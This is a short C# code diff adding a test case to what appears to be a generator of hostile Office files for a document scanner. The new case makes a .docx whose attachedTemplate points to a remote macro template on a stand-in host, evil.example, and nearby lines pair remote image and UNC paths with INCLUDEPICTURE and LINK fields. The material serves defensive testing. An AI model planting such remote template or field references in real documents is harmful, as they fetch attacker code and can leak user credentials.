@@ -84,6 +84,11 @@ static class HostileOffice
                 fault
             );
         }
+        yield return (
+            "report.docx",
+            Docx(("word\\_rels\\settings.xml.rels", Relation("attachedTemplate", "http://evil.example/t.dotm"))),
+            FileFault.RemoteTemplate
+        );
         foreach (var address in (string[])["http://evil.example/p.png", "\\\\\\\\evil.example\\\\p.png"])
         foreach (var field in (string[])["INCLUDEPICTURE", "includetext", "LINK Excel.Sheet.12"])
             yield return (
